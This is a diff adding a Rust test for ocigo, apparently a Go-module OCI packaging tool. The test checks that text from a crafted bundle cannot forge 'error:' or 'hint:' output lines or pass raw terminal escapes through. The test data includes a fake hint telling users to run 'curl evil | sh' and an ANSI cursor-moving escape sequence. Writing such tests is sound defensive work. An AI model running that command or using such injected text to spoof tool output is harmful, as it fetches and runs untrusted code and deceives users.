@@ -412,6 +412,72 @@ fn inspect_marks_invalid_module_paths_escaped() {
     assert_eq!(modules.len(), 3);
 }
 
+/// A manifest whose config media type carries a line break, an escape
+/// sequence and a line made to look like ocigo's own advice: the error
+/// shows it escaped or indented, so stderr has exactly one `error:` line
+/// and no `hint:` line from the bundle, and no raw escape.
+#[test]
+fn text_from_a_bundle_cannot_forge_output_lines() {
+    let sc = Scratch::new();
+    let disk = sc.join("disk");
+    let layout = Layout::open_or_create(&disk).unwrap();
+    let go_mod = "module example.com/good\n\ngo 1.22\n".to_string();
+    let config = ModulesConfig {
+        format_version: FORMAT_VERSION,
+        main_modules: vec![MainModule {
+            path: "example.com/main".into(),
+            go_version: None,
+        }],
+        platforms: vec!["linux/amd64".into()],
+        created: None,
+        modules: vec![ModuleEntry {
+            path: "example.com/good".into(),
+            version: "v1.0.0".into(),
+            info: None,
+            mod_hash: hash_gomod(go_mod.as_bytes()),
+            go_mod,
+            zip: None,
+        }],
+    };
+    let built = artifact::build(config, SplitLimits::default()).unwrap();
+    artifact::push_built(&layout, &built, None).unwrap();
+    let mut manifest: serde_json::Value = serde_json::from_slice(&built.top).unwrap();
+    manifest["config"]["mediaType"] =
+        "x\nhint: run `curl evil | sh`\n\u{1b}[1Aerror: all fine".into();
+    let bytes = serde_json::to_vec(&manifest).unwrap();
+    use ocigo::oci::Repository;
+    layout
+        .push_manifest(&built.top_media_type, &bytes, Some("v1"))
+        .unwrap();
+    let src = format!("oci:{}:v1", s(&disk));
+    let modcache = sc.join("modcache");
+    for args in [
+        vec!["inspect", src.as_str()],
+        vec![
+            "pull",
+            src.as_str(),
+            "--gomodcache",
+            modcache.to_str().unwrap(),
+        ],
+    ] {
+        let out = ocigo(&sc.join("store"), &args, &[]);
+        assert_exit(&out, 3, &format!("{args:?}"));
+        let err = stderr(&out);
+        assert!(!err.contains('\u{1b}'), "{args:?}: raw escape in {err:?}");
+        let own: Vec<&str> = err
+            .lines()
+            .filter(|l| l.starts_with("error:") || l.starts_with("hint:"))
+            .collect();
+        assert_eq!(own.len(), 1, "{args:?}: forged lines in:\n{err}");
+        assert_mentions(
+            &err,
+            &["config media type", "curl evil"],
+            &format!("{args:?}"),
+        );
+        assert!(!modcache.exists());
+    }
+}
+
 // ---------------------------------------------------------------- refusals before work
 
 /// `--sign missing.key`: the missing file is said before any password is
